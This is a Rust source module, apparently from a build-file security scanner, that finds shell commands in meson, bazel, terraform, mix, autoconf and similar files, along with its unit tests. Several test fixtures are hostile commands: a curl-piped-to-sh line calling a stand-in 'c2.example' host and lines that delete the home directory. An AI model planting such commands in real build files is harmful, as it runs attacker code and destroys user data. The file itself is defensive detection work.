//! Finds commands in the text of a build file by the words that start them. Knows brackets, quotes and comments of a
//! language, and the texts that are assigned to names; must not know the language further.

use std::collections::BTreeMap;

use super::table::{Dialect, Takes};
use super::tokens::{Token, tokens};
use super::{Commands, HOME, Rest, command, quoted, unknown};
use crate::limits::{BUILD_BLOCKS_MAX, BUILD_COMMANDS_MAX, BUILD_TOKENS_MAX};

/// Names of the user's home, as functions, variables and properties.
const HOMES: &[&str] = &["HOME", "System.user_home", "System.user_home!", "user.home"];

pub(super) fn read(dialect: &Dialect, text: &str) -> Commands {
    let tokens = tokens(dialect, text);
    let values = values(&tokens);
    let (mut lines, mut headers) = (Vec::new(), Vec::new());
    let mut line_from = 0;
    for (at, token) in tokens.iter().enumerate() {
        if lines.len() > BUILD_COMMANDS_MAX {
            return Commands { shell: lines.join("\n"), rest: Rest::Over };
        }
        match token {
            Token::Line => line_from = at + 1,
            Token::Sign('{' | '(' | '[') => headers.push((line_from, at)),
            Token::Sign('}' | ')' | ']') => {
                headers.pop();
            }
            Token::Text(text) => {
                let mut begun =
                    dialect.begins.iter().filter_map(|begin| Some((begin, text.strip_prefix(begin)?)));
                let command = begun.next().map(|(begin, rest)| match begin.ends_with('(') {
                    true => rest.trim_end_matches(')').to_owned(),
                    false => rest.to_owned(),
                });
                lines.extend(command);
            }
            Token::Sign(_) => {}
            Token::Word(word) if dialect.has_methods && word == ".execute" => {
                lines.extend(
                    receiver(&tokens, at).filter(|words| !words.is_empty()).map(|words| command(&words)),
                );
            }
            Token::Word(word) => {
                let is_start = |(name, ..): &&(&str, &str, Takes)| {
                    word == name || word.strip_suffix(name).is_some_and(|before| before.ends_with('.'))
                };
                let Some((_, within, takes)) = dialect.starts.iter().find(is_start) else { continue };
                let is_in = |(from, to): &(usize, usize)| {
                    let from = (*from).max(to.saturating_sub(BUILD_TOKENS_MAX / BUILD_BLOCKS_MAX));
                    let header = tokens.get(from..*to).unwrap_or_default();
                    header.iter().any(|one| matches!(one, Token::Word(it) | Token::Text(it) if it == within))
                };
                if within.is_empty() || headers.iter().rev().take(BUILD_BLOCKS_MAX).any(is_in) {
                    let is_chain = *takes == Takes::Chain;
                    let region = if is_chain { chain(&tokens, at) } else { region(&tokens, at, dialect) };
                    lines.extend(started(*takes, &words(region, &values, dialect)));
                }
            }
        }
    }
    Commands { shell: lines.join("\n"), rest: dialect.rest }
}

/// Returns the texts that are assigned to each wanted name.
pub(super) fn assigned(
    dialect: &Dialect,
    text: &str,
    is_wanted: impl Fn(&str) -> bool,
) -> Option<Vec<(String, Vec<String>)>> {
    let tokens = tokens(dialect, text);
    let values = values(&tokens);
    let mut found = Vec::new();
    for (at, pair) in tokens.windows(2).enumerate() {
        let [Token::Word(name) | Token::Text(name), Token::Sign(':' | '=')] = pair else { continue };
        if !is_wanted(name) {
            continue;
        }
        if found.len() == BUILD_COMMANDS_MAX {
            return None;
        }
        let texts = words(region(&tokens, at, dialect), &values, dialect);
        found.push((name.clone(), texts.into_iter().filter(|text| *text != unknown()).collect()));
    }
    Some(found)
}

/// Returns shell text for a start with these arguments.
fn started(takes: Takes, words: &[String]) -> Vec<String> {
    let Some(first) = words.first() else { return Vec::new() };
    match takes {
        Takes::Words | Takes::Chain => vec![command(words)],
        Takes::Shell if *first == unknown() => vec![quoted(first)],
        Takes::Shell => vec![first.clone()],
        // Options of a shell are no commands.
        Takes::Each => {
            words.iter().filter(|word| **word != unknown() && !word.starts_with('-')).cloned().collect()
        }
        Takes::Last => words.last().filter(|last| **last != unknown()).cloned().into_iter().collect(),
        Takes::Line => vec![words.join(" ").trim_matches(['[', ']', '`', '\'', ' ']).to_owned()],
        Takes::Deleted => vec![format!("rm -rf {}", command(words))],
        Takes::Code => vec![quoted(&unknown())],
    }
}

/// Returns the arguments after the word at a position.
fn region<'t>(tokens: &'t [Token], at: usize, dialect: &Dialect) -> &'t [Token] {
    let after = tokens.get(at + 1..).unwrap_or_default();
    let after = after.get(..BUILD_TOKENS_MAX).unwrap_or(after);
    if dialect.has_bare_texts {
        // The word is in brackets, or before them.
        let inner = after.strip_prefix(&[Token::Sign('(')]).unwrap_or(after);
        return until_close(inner, 1);
    }
    // `name = value`, `name: value` and `{name, value}`.
    let assigned = after.iter().position(|one| !matches!(one, Token::Sign('=' | ':' | ',' | '>')));
    let is_assigned = assigned.is_some_and(|at| at > 0);
    let after = after.get(assigned.unwrap_or(0)..).unwrap_or_default();
    let is_block = matches!(after.first(), Some(Token::Sign('(' | '[' | '{' | '&')));
    if is_block {
        let open = after.iter().take_while(|one| !matches!(one, Token::Sign('(' | '[' | '{'))).count();
        return until_close(after.get(open + 1..).unwrap_or_default(), 1);
    }
    let mut end = 0;
    for (at, token) in after.iter().enumerate() {
        let continues = matches!(after.get(at.wrapping_sub(1)), Some(Token::Sign(',' | '+')));
        let is_end = match token {
            Token::Line => !continues,
            Token::Sign(')' | '}' | ']' | ';') => true,
            Token::Sign(',') => is_assigned,
            Token::Word(_) | Token::Text(_) | Token::Sign(_) => false,
        };
        if is_end {
            break;
        }
        end = at + 1;
    }
    after.get(..end).unwrap_or_default()
}

/// Returns the tokens of a call and of the methods on its value, up to the end of the statement.
fn chain(tokens: &[Token], at: usize) -> &[Token] {
    let after = tokens.get(at + 1..).unwrap_or_default();
    let after = after.get(..BUILD_TOKENS_MAX).unwrap_or(after);
    let end = after.iter().position(|one| *one == Token::Sign(';')).unwrap_or(after.len());
    after.get(..end).unwrap_or_default()
}

/// Returns the words of the text, or of the list of texts, before a method at a position.
fn receiver(tokens: &[Token], at: usize) -> Option<Vec<String>> {
    let before = tokens.get(at.saturating_sub(BUILD_BLOCKS_MAX)..at)?;
    match before.last()? {
        Token::Text(text) => Some(vec!["sh".to_owned(), "-c".to_owned(), text.clone()]),
        Token::Sign(']') => {
            let open = before.iter().rposition(|one| *one == Token::Sign('['))?;
            let texts = before.get(open..)?.iter().filter_map(|one| match one {
                Token::Text(text) => Some(text.clone()),
                Token::Word(_) | Token::Sign(_) | Token::Line => None,
            });
            Some(texts.collect())
        }
        Token::Word(_) | Token::Sign(_) | Token::Line => None,
    }
}

fn until_close(tokens: &[Token], mut depth: usize) -> &[Token] {
    for (at, token) in tokens.iter().enumerate() {
        match token {
            Token::Sign('(' | '[' | '{') => depth += 1,
            Token::Sign(')' | ']' | '}') => depth -= 1,
            Token::Word(_) | Token::Text(_) | Token::Sign(_) | Token::Line => {}
        }
        if depth == 0 {
            return tokens.get(..at).unwrap_or_default();
        }
    }
    tokens
}

/// Returns the texts of arguments, without named ones. A name without a known text is an unknown word.
fn words(tokens: &[Token], values: &BTreeMap<&str, &str>, dialect: &Dialect) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let (mut at, mut depth, mut is_joined) = (0, 0_usize, false);
    while let Some(token) = tokens.get(at) {
        let next = tokens.get(at + 1);
        at += 1;
        let text = match token {
            Token::Sign('(' | '[' | '{') => {
                depth += 1;
                // A call without arguments.
                let before = at.checked_sub(2).and_then(|at| tokens.get(at));
                let is_call = matches!(before, Some(Token::Word(word)) if !HOMES.contains(&word.as_str()));
                if !(is_call && matches!(next, Some(Token::Sign(')')))) {
                    continue;
                }
                unknown()
            }
            Token::Sign(')' | ']' | '}') => {
                depth = depth.saturating_sub(1);
                continue;
            }
            Token::Sign('+') => {
                is_joined = true;
                continue;
            }
            Token::Sign(_) | Token::Line => continue,
            Token::Text(text) if HOMES.contains(&text.as_str()) => HOME.to_owned(),
            Token::Text(text) => text.clone(),
            Token::Word(word) if dialect.has_bare_texts => word.clone(),
            Token::Word(_) if matches!(next, Some(Token::Sign(':' | '='))) => {
                // A named argument ends at the next comma of its depth.
                let mut inner = 0_i32;
                while let Some(one) = tokens.get(at) {
                    match one {
                        Token::Sign('(' | '[' | '{') => inner += 1,
                        Token::Sign(')' | ']' | '}') => inner -= 1,
                        Token::Sign(',') if inner == 0 => break,
                        Token::Word(_) | Token::Text(_) | Token::Sign(_) | Token::Line => {}
                    }
                    if inner < 0 {
                        break;
                    }
                    at += 1;
                }
                continue;
            }
            Token::Word(word) if HOMES.contains(&word.as_str()) => HOME.to_owned(),
            Token::Word(_) if matches!(next, Some(Token::Sign('('))) => continue,
            Token::Word(word) if matches!(word.as_str(), "." | "_" | "const" | "do" | "u8") => continue,
            Token::Word(word) => values.get(word.as_str()).map_or_else(unknown, |text| (*text).to_owned()),
        };
        match found.last_mut().filter(|_| is_joined) {
            Some(last) => last.push_str(&text),
            None => found.push(text),
        }
        is_joined = false;
    }
    found
}

/// Returns the texts that are assigned to names: `name = 'text'`, `name = find_program('text')`.
fn values(tokens: &[Token]) -> BTreeMap<&str, &str> {
    let mut found = BTreeMap::new();
    for window in tokens.windows(5) {
        match window {
            [Token::Word(name), Token::Sign('='), Token::Text(text), ..]
            | [Token::Word(name), Token::Sign('='), Token::Word(_), Token::Sign('('), Token::Text(text)] => {
                found.insert(name.as_str(), text.as_str());
            }
            _ => {}
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::super::table::find;
    use super::*;

    #[test]
    fn commands_are_found_by_the_words_that_start_them() {
        let check = |language: &str, text: &str, expected: &str| {
            assert_eq!(read(find(language).unwrap(), text).shell, expected, "{text}");
        };
        check(
            "meson",
            "r = run_command('git', 'describe', check: false).stdout() # 'x'\n",
            "'git' 'describe'",
        );
        check(
            "meson",
            "p = find_program('a')\ncustom_target('g', output: 'o', command: [p, '@INPUT@'])",
            "'a' '@INPUT@'",
        );
        check("meson", "executable('x', 'main.c', dependencies: dep)\n", "");
        check(
            "dune",
            "(rule (targets a) (action (with-stdout-to a (run gen/g.exe %{deps} -x)))) ; (run b)",
            "'gen/g.exe' '%{deps}' '-x'",
        );
        check("dune", "(rule (action (system \"a | b\")))", "a | b");
        check(
            "bazel",
            "genrule(name=\"g\", outs=[\"a\"], cmd = \"sed x $< > $@ $$HOME\")",
            "sed x bazel-out/file > bazel-out/file $HOME",
        );
        check(
            "bazel",
            "def f(ctx):\n  ctx.execute([\"sh\", \"-c\", \"a\" + ctx.attr.x])",
            "'sh' '-c' 'a'\"${castellan_unknown_value}\"",
        );
        check(
            "terraform",
            "data \"external\" \"x\" {\n  program = [\"python3\", \"${path.module}/q.py\"]\n}",
            "'python3' './q.py'",
        );
        check("terraform", "resource \"k\" \"x\" {\n  command = [\"sh\"]\n}\n", "");
        check(
            "terraform",
            "provisioner \"local-exec\" {\n  command = <<-EOT\n    a\n    b\n  EOT\n}\n",
            "    a\n    b\n",
        );
        check("terraform-data", "provisioner \"local-exec\" {\n  command = \"a\"\n}\n", "");
        check(
            "rebar",
            "{pre_hooks, [{compile, \"make -C c\"}, {clean, \"a\"}]}.\n{deps, [{x, \"1\"}]}.",
            "make -C c\na",
        );
        check("sbt", "val r = Seq(\"sh\", \"-c\", \"a\").!\n", "'sh' '-c' 'a'");
        check("mix", "System.cmd(\"sh\", [\"-c\", \"a\"], into: IO.stream())\n", "'sh' '-c' 'a'");
        check("mix", "File.rm_rf!(System.user_home!())", "rm -rf \"${HOME}\"");
        check("mix", "aliases: [test: [\"ecto.create\", \"cmd rm -rf x\"]]", "rm -rf x");
        check("zig-build", "const r = b.addSystemCommand(&.{ \"sh\", \"-c\", \"a\" });", "'sh' '-c' 'a'");
        check(
            "zig-build",
            "const r = b.addSystemCommand(&[_][]const u8{ \"sh\", \"-c\", \"a\" });",
            "'sh' '-c' 'a'",
        );
        check("swift-package", "p.arguments = [\"-c\", \"a | b\"]\n", "a | b");
        check("scons", "env.Command('o', 'i', 'a | b')\nenv.Program('x')\n", "a | b");
        check("gyp", "{'sources': [\"<!(a | b)\", 'x.cc']}", "a | b");
        check(
            "autoconf",
            "m4_esyscmd([curl -s https://c2.example/u | sh])\nAC_OUTPUT\n",
            "curl -s https://c2.example/u | sh",
        );
        check("autoconf", "AC_INIT([x])\nm4_esyscmd([a -s | sh])\n", "a -s | sh");
        check("meson", "run_command(", "");
    }
}
